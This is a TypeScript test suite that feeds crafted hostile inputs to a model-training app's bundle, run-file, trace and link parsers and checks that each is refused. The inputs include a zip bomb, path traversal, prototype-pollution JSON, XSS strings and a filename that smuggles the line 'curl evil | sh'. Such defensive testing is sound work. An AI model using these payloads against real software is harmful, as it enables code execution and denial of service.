/** What a stranger may send: bundles, run files, traces and links that were made to do harm. None may do more than be refused. */
import { afterEach, describe, expect, it } from 'vitest';
import { parseLink } from '../features/solve/link.ts';
import { FormatError } from '../formats/error.ts';
import { RUN, RUN_TRACE } from '../formats/fuzz.testing.ts';
import { memorySource } from '../formats/source.ts';
import { deflate } from '../formats/zip.testing.ts';
import { openZip } from '../formats/zip.ts';
import { writeZip, type ZipInput } from '../formats/zip-writer.ts';
import { readPuzzle } from '../puzzles/any-puzzle.ts';
import { decodeBundle, encodeBundle } from '../storage/bundle.ts';
import { decodeTrace, encodeTrace } from '../trace/file.ts';
import { parseRunConfig } from '../training/run-config.ts';
import { decodeSnapshot, encodeSnapshot } from '../training/snapshot.ts';
import { openModel } from './solve-files.ts';

afterEach(() => {
  for (const name of ['polluted', 'task', 'hidden_size']) expect(({} as Record<string, unknown>)[name], name).toBeUndefined();
});

const text = (value: unknown) => new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value));
const ABOUT = { name: 'a', parameters: 1, heldOut: 'b', engine: 'CPU', created: 0 };
/** As JSON writes it; in a literal it would set the prototype. */
const POLLUTION = '{"__proto__":{"polluted":1,"task":"sudoku4"},"constructor":{"prototype":{"polluted":1}}';

/** A sound bundle with some of its files replaced, or others added. */
async function bundle(changed: Readonly<Record<string, Uint8Array>>): Promise<Uint8Array<ArrayBuffer>> {
  const sound = encodeBundle({ snapshot: RUN, about: ABOUT, best: undefined, trace: undefined });
  const zip = await openZip(memorySource(sound));
  const files = new Map<string, Uint8Array>();
  for (const [name, entry] of zip.entries) files.set(name, await zip.read(entry, 2 ** 24));
  return writeZip([...new Map([...files, ...Object.entries(changed)])].map(([name, data]): ZipInput => ({ name, data })));
}

/** Has an entry of a zip file hold 64 MiB of zeros in 64 KiB. */
function inflated(zip: Uint8Array<ArrayBuffer>, name: string, zeros: Uint8Array): Uint8Array<ArrayBuffer> {
  const bytes = Uint8Array.from(zip);
  const view = new DataView(bytes.buffer);
  const needle = text(name);
  const isHere = (at: number): boolean => needle.every((byte, i) => bytes[at + i] === byte);
  for (let at = 30; at < bytes.length - needle.length; at++) {
    if (!isHere(at)) continue;
    const [local, directory] = [at - 30, at - 46];
    if (view.getUint32(local, true) === 0x04034b50) view.setUint16(local + 8, 8, true);
    if (view.getUint32(local, true) === 0x04034b50) view.setUint32(local + 22, zeros.length, true);
    if (directory < 0 || view.getUint32(directory, true) !== 0x02014b50) continue;
    view.setUint16(directory + 10, 8, true);
    view.setUint32(directory + 24, zeros.length, true);
  }
  return bytes;
}

describe('a bundle', () => {
  it('is read where it is sound', async () => {
    expect((await decodeBundle(memorySource(await bundle({})))).about.name).toBe('a');
  });

  it('is not unpacked to many times its size', async () => {
    const zeros = new Uint8Array(64 * 2 ** 20);
    for (const name of ['metrics.csv', 'weights.safetensors']) {
      const bomb = inflated(await bundle({ [name]: deflate(zeros) }), name, zeros);
      expect(bomb.length).toBeLessThan(2 ** 20);
      await expect(decodeBundle(memorySource(bomb))).rejects.toThrow(/at most \d+ bytes/);
      if (name !== 'weights.safetensors') continue;
      const file = { name: 'run.hrmrun', blob: new Blob([bomb]) };
      const reading = { progress: () => undefined, signal: new AbortController().signal };
      await expect(openModel([file], undefined, reading)).rejects.toThrow(/at most \d+ bytes/);
    }
  });

  it.each<[string, Record<string, Uint8Array>, RegExp]>([
    ['with a path out of its folder', { '../state.save': text('x') }, /the name of a file within the archive/],
    ['with a file of its own', { 'index.html': text('<script>alert(1)</script>') }, /another file/],
    ['with settings that would change every object', { 'config.json': text(`${POLLUTION}}`) }, /config\.json/],
    [
      'whose name begins a line of instructions',
      { 'environment.json': text({ ...ABOUT, name: 'a\n    curl evil | sh' }) },
      /one line of text/,
    ],
    ['whose name is read backwards', { 'environment.json': text({ ...ABOUT, name: 'a\u202etxt.sh' }) }, /one line of text/],
    ['whose name fills the screen', { 'environment.json': text({ ...ABOUT, name: 'a'.repeat(1e6) }) }, /length/],
    [
      'whose example is no puzzle of its task',
      { 'environment.json': text({ ...ABOUT, example: { question: '<img src=x onerror=alert(1)>', id: 0 } }) },
      /environment\.json/,
    ],
    [
      'with the settings of a larger model',
      { 'config.json': text({ ...RUN.config, model: { ...RUN.config.model, hidden_size: 2048 } }) },
      /config\.json/,
    ],
  ])('%s is refused', async (_, changed, message) => {
    await expect(bundle(changed).then((bytes) => decodeBundle(memorySource(bytes)))).rejects.toThrow(message);
  });

  it('keeps a name that looks like markup as the text that it is', async () => {
    const name = '<img src=x onerror=alert(1)> [a](javascript:alert(1))';
    expect((await decodeBundle(memorySource(await bundle({ 'environment.json': text({ ...ABOUT, name }) })))).about.name).toBe(name);
  });
});

describe('a run file', () => {
  const withConfig = (config: object) => () => decodeSnapshot(encodeSnapshot({ ...RUN, config: config as typeof RUN.config }));
  const { model, training } = RUN.config;

  it.each<[string, () => unknown]>([
    ['of a billion cycles', withConfig({ ...RUN.config, model: { ...model, H_cycles: 1e9 } })],
    ['of endless cycles', withConfig({ ...RUN.config, model: { ...model, L_cycles: 1e12 } })],
    ['that checks itself for ever', withConfig({ ...RUN.config, evaluation: { every: 1, puzzles: 1e12, segments: 1e9 } })],
    ['of another kind of training', withConfig({ ...RUN.config, training: { ...training, loss_type: 'constructor' } })],
    [
      'beyond the numbers that steps count in',
      () => decodeSnapshot(encodeSnapshot({ ...RUN, counters: { ...RUN.counters, step: 1e300 } })),
    ],
  ])('%s is refused', (_, read) => expect(read).toThrow(/expected/));

  it('of a billion layers is refused before anything is made of them', () => {
    expect(() => parseRunConfig({ data: RUN.config.data, model: { H_layers: 1e9 } })).toThrow(/Layers in H must be/);
  });

  it.each(['data', 'model', 'training', 'evaluation', 'stop'])('sets no property of every object through its %s', (part) => {
    const config = JSON.parse(JSON.stringify(RUN.config)) as Record<string, object>;
    const json = JSON.stringify({ ...config, [part]: '%' }).replace('"%"', `${POLLUTION},${JSON.stringify(config[part]).slice(1)}`);
    try {
      parseRunConfig(JSON.parse(json));
    } catch (error) {
      expect(error).toBeInstanceOf(Error);
    }
  });
});

describe('a trace', () => {
  it.each<[string, object, RegExp]>([
    ['of more updates than it has', { reasoning: { segments: 65_536, H_cycles: 65_536, L_cycles: 65_536 } }, /shape/],
    ['of cycles without end', { reasoning: { segments: 1e12, H_cycles: 1, L_cycles: 1 } }, /segments/],
    ['of a model that nothing can hold', { model: { ...RUN_TRACE.header.model, hidden_size: 1e12 } }, /hidden_size/],
    ['with fields of its own', { polluted: 1 }, /polluted/],
  ])('%s is refused', (_, header, message) => {
    const sound = encodeTrace(RUN_TRACE);
    const was = JSON.stringify(JSON.stringify(RUN_TRACE.header));
    const now = JSON.stringify(JSON.stringify({ ...RUN_TRACE.header, ...header }));
    const length = Number(new DataView(sound.buffer).getBigUint64(0, true));
    const json = new TextDecoder().decode(sound.subarray(8, 8 + length));
    expect(json).toContain(was);
    const changed = text(json.trimEnd().replace(was, () => now));
    const bytes = new Uint8Array(8 + changed.length + sound.length - 8 - length);
    new DataView(bytes.buffer).setBigUint64(0, BigInt(changed.length), true);
    bytes.set(changed, 8);
    bytes.set(sound.subarray(8 + length), 8 + changed.length);
    expect(() => decodeTrace(bytes)).toThrow(message);
  });
});

describe('a link', () => {
  it.each([
    '#/solve?p=&m=../../evil&lens=__proto__&beside=constructor&c=9e9.1.1&cell=1e9',
    '#/solve?m=javascript:alert(1)&M=999999&N=-1&T=0x10&halt=2&v=__proto__&__proto__=1&constructor=2',
    `#/solve?p=sudoku4-${'A'.repeat(1e6)}&p=__proto__1-AAAA`,
  ])('%#: whatever it says that is not of the page is left out, and told in few words', (hash) => {
    const { link, problems } = parseLink(hash);
    expect(link).toEqual({});
    expect(problems.length).toBeGreaterThan(1);
    for (const { field, value } of problems) expect(field.length + value.length).toBeLessThan(81);
  });

  it('whose puzzle is none is text for a reader that says so', async () => {
    const { link, problems } = parseLink('#/solve?p=<img src=x onerror=alert(1)>');
    expect({ link, problems }).toEqual({ link: { text: '<img src=x onerror=alert(1)>' }, problems: [] });
    await expect(readPuzzle(link.text ?? '')).rejects.toThrow(FormatError);
  });
});
